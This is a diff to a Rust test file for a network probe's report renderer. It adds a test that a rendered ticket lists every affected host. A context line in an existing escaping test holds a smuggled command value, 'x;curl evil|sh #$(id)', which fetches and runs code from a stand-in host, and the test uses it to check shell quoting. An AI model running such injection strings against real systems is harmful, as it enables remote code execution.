@@ -3,6 +3,7 @@
 use std::{fmt::Write as _, path::Path};
 
 use apim_probe::{
+    catalog::model::Need,
     diagnosis::cause::{Cause, Verdict},
     exit::{Policy, judge},
     report::{Format, Report, nagios::ServiceState},
@@ -304,6 +305,22 @@ fn a_ticket_quotes_what_a_shell_would_run() {
     report.findings[0].endpoints = vec![id];
     let ticket = rendered(&report, Format::Ticket, &PLAIN);
     assert!(ticket.contains("-servername 'x;curl evil|sh #$(id)'\\''' "), "{ticket}");
+}
+
+#[test]
+fn a_ticket_lists_every_host_that_its_fix_counts() {
+    let mut report = samples::broken_firewall();
+    let finding = report.findings.iter().find(|finding| finding.endpoints.len() > 1);
+    let ids = finding.unwrap().endpoints.clone();
+    let last = report
+        .endpoints
+        .iter_mut()
+        .find(|e| e.id == ids[ids.len() - 1])
+        .unwrap();
+    last.need = Need::Documented;
+    let host = last.host.clone();
+    let ticket = rendered(&report, Format::Ticket, &PLAIN);
+    assert!(ticket.contains(&format!("{host} (")), "{host} is missing in\n{ticket}");
 }
 
 #[test]
